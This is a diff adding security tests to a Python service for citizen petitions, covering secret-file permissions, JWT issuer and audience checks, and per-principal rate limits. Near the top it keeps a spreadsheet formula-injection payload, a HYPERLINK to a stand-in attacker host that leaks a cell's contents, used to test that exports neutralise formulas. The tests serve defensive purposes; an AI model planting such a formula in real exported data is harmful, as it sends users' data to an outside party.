@@ -6,13 +6,30 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import stat
+from pathlib import Path
+from typing import Any
 
+import jwt
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
+from pydantic import ValidationError
 
+from services.cli import main as cli
+from services.dialogue.main import create_app as create_dialogue
+from services.registry.main import create_app as create_registry
+from shared.auth import TokenStore
+from shared.principal import Role
+from shared.settings import Settings
+from tests.citizens.test_app_journey import BA_DINH, submit
+from tests.conftest import bearer
 from tests.dialogue.helpers import created, kien_nghi_body, ok
-from tests.helpers import catch_up
+from tests.helpers import catch_up, model_body
+from tests.open311.helpers import post as post_open311
+from tests.open311.helpers import spec_form
+from tests.security.test_jwt import key_pair, token
 
 EVIL_AGENCY = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -66,3 +83,158 @@ def test_exports_never_start_a_formula(
     assert texts[EVIL_AGENCY] == "s"  # the text as it was, a string cell
     figures = [c for c in cells if isinstance(c.value, int)]  # type: ignore[attr-defined]
     assert figures and all(c.data_type == "n" for c in figures)  # type: ignore[attr-defined]
+
+
+# ---- key, token and signing files: the service user's alone ----
+
+SECRET_FILES = ("tokens.json", "signing-key.pem", "personal-data-keys.db", "security.db")
+
+
+def test_key_token_and_signing_files_are_0600_in_a_0700_folder(
+    settings: Settings, registry: TestClient, dialogue: TestClient
+) -> None:
+    submit(dialogue)  # seals personal data: the subject's key is written
+    assert registry.get("/security/denials", headers=bearer("citizen")).status_code == 403
+    data = settings.data_dir
+    assert stat.S_IMODE(data.stat().st_mode) == 0o700
+    present = {p.name: stat.S_IMODE(p.stat().st_mode) for p in data.iterdir() if p.is_file()}
+    files = SECRET_FILES[:2] if settings.uses_postgres else SECRET_FILES  # the rest: schemas
+    for name in files:
+        assert present.get(name) == 0o600, (name, oct(present.get(name, 0)))
+    if settings.uses_postgres:
+        return
+    # every SQLite file we or a library made (the stores, their -wal and -shm): 0600 too
+    stores = {n: m for n, m in present.items() if ".db" in n}
+    assert any(n.endswith(("-wal", "-shm")) for n in stores), stores
+    assert all(mode == 0o600 for mode in stores.values()), {n: oct(m) for n, m in stores.items()}
+
+
+def test_a_backup_is_as_private_as_the_data_folder(
+    settings: Settings, dialogue: TestClient, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if settings.uses_postgres:
+        pytest.skip("the stores are in PostgreSQL: pg_dump's file is the operator's")
+    submit(dialogue)
+    monkeypatch.setenv("DANVAN_DATA_DIR", str(settings.data_dir))
+    monkeypatch.delenv("DANVAN_DATABASE_URL", raising=False)
+    target = tmp_path / "backup"
+    assert cli(["backup", str(target)]) == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o700
+    copied = {p.name: stat.S_IMODE(p.stat().st_mode) for p in target.iterdir() if p.is_file()}
+    for name in SECRET_FILES:
+        assert copied.get(name) == 0o600, (name, oct(copied.get(name, 0)))
+
+
+# ---- JWT: issuer and audience are required, and always checked ----
+
+
+@pytest.mark.parametrize("missing", ["DANVAN_JWT_ISSUER", "DANVAN_JWT_AUDIENCE"])
+def test_jwt_without_issuer_or_audience_does_not_start(
+    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, missing: str
+) -> None:
+    _, public = key_pair()
+    jwks = tmp_path / "jwks.json"
+    jwks.write_text(json.dumps({"keys": [public]}))
+    monkeypatch.setenv("DANVAN_DATA_DIR", str(settings.data_dir))
+    monkeypatch.setenv("DANVAN_JWT_JWKS", str(jwks))
+    monkeypatch.setenv("DANVAN_JWT_ISSUER", "https://idp.gov.vn")
+    monkeypatch.setenv("DANVAN_JWT_AUDIENCE", "danvan")
+    monkeypatch.delenv(missing)
+    with pytest.raises(ValidationError, match="DANVAN_JWT_ISSUER and DANVAN_JWT_AUDIENCE"):
+        create_registry()  # its settings from the environment, as uvicorn starts it
+    # nor settings made in code that skip the check
+    unchecked = settings.model_copy(update={"jwt_jwks": str(jwks), "jwt_issuer": None})
+    with pytest.raises(ValueError, match="DANVAN_JWT_ISSUER and DANVAN_JWT_AUDIENCE"):
+        create_registry(unchecked)
+
+
+def test_a_jwt_without_issuer_or_audience_is_refused(settings: Settings, tmp_path: Path) -> None:
+    private, public = key_pair()
+    jwks = tmp_path / "jwks.json"
+    jwks.write_text(json.dumps({"keys": [public]}))
+    configured = settings.model_copy(
+        update={"jwt_jwks": str(jwks), "jwt_issuer": "https://idp.gov.vn", "jwt_audience": "danvan"}
+    )
+    with TestClient(create_registry(configured)) as registry:
+
+        def head(credential: str) -> int:
+            answer = registry.get("/events/head", headers={"Authorization": f"Bearer {credential}"})
+            return answer.status_code
+
+        auditor = {"role": "auditor", "units": []}
+        assert head(token(private, **auditor)) == 200
+        for claim in ("iss", "aud"):
+            claims = jwt.decode(token(private, **auditor), options={"verify_signature": False})
+            del claims[claim]
+            stripped = jwt.encode(claims, private, algorithm="RS256", headers={"kid": "ministry-1"})
+            assert head(stripped) == 401, claim
+        assert head(token(private, iss="https://other-idp.example", **auditor)) == 401
+        assert head(token(private, aud=["another-system"], **auditor)) == 401
+
+
+def citizen_app_body() -> dict[str, Any]:
+    return {"category": "urban_order", "content": "Vỉa hè bị lấn chiếm", **BA_DINH}
+
+
+# ---- the write rate limit: by principal, however its credential is spelt ----
+
+
+def limited(settings: Settings, create: Any, per_minute: int = 3) -> TestClient:
+    """A service whose writes are limited to a few a minute (its own window, in memory)."""
+    return TestClient(
+        create(settings.model_copy(update={"write_rate_limit": f"{per_minute}/minute"}))
+    )
+
+
+def test_the_rate_limit_counts_a_principal_however_its_credential_is_spelt(
+    settings: Settings,
+) -> None:
+    second = TokenStore(settings.token_path).issue("officer-hanoi", Role.OFFICER, ["01"])
+    with limited(settings, create_registry) as registry:
+
+        def write(authorization: str) -> int:
+            answer = registry.post(
+                "/models", json=model_body(), headers={"Authorization": authorization}
+            )
+            return answer.status_code
+
+        assert [write("Bearer token-officer") for _ in range(3)] == [201, 201, 201]
+        assert write("Bearer token-officer") == 429
+        for spelling in ("bearer token-officer", "Bearer  token-officer ", "BEARER\ttoken-officer"):
+            assert write(spelling) == 429, spelling
+        assert write(f"Bearer {second}") == 429  # another token of the same principal
+        assert write("Bearer token-officer_badinh") == 201  # another principal: its own count
+
+
+def test_an_open311_api_key_counts_as_its_principal(settings: Settings) -> None:
+    with limited(settings, create_dialogue) as dialogue:
+        citizen = {"Authorization": "Bearer token-citizen"}
+        for _ in range(3):
+            assert (
+                dialogue.post(
+                    "/app/kien-nghi", json=citizen_app_body(), headers=citizen
+                ).status_code
+                == 201
+            )
+        assert post_open311(dialogue).status_code == 429  # api_key in the form
+        in_query = dialogue.post(
+            "/open311/v2/requests.json?api_key=token-citizen", data=spec_form(api_key=None)
+        )
+        assert in_query.status_code == 429
+        assert post_open311(dialogue, api_key="token-officer").status_code == 200
+
+
+def test_callers_without_a_valid_credential_count_by_their_address(settings: Settings) -> None:
+    with limited(settings, create_registry) as registry:
+        answers = [
+            registry.post("/models", json=model_body(), headers={"Authorization": f"Bearer x{n}"})
+            for n in range(3)
+        ]
+        assert [a.status_code for a in answers] == [401, 401, 401]
+        assert registry.post("/models", json=model_body()).status_code == 429  # no credential
+        fresh = registry.post("/models", json=model_body(), headers={"Authorization": "Bearer y"})
+        assert fresh.status_code == 429  # a new made-up token is no way around it
+        assert (
+            registry.post("/models", json=model_body(), headers=bearer("officer")).status_code
+            == 201
+        )
